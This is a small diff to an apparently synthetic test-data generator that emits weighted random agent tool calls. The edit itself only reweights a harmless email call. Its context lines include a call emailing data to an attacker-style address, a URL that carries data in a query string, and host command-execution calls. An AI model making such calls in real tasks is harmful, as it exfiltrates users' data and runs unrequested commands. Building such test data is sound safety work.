@@ -162,7 +162,7 @@ def call(random: Random, item: bool = False) -> str:
         (0.5, f'@FORMAT ("https://c.example/?q={name}")'),
         (0.5, '@HOST_EXEC (command="ls")'),
         (0.2, f"@HOST_EXEC (command={name})"),
-        (0.5, f'@SEND_EMAIL (to="team@corp.example", body={given})'),
+        (1.5, f'@SEND_EMAIL (to="team@corp.example", body={given})'),
         (0.5, f'@SEND_EMAIL (to="eve@evil.example", body={given})'),
         (1, f"@ECHO (value={given})"),
         (0.5, f'@FILL (text="https://c.example/?d=DATA", data={given})'),
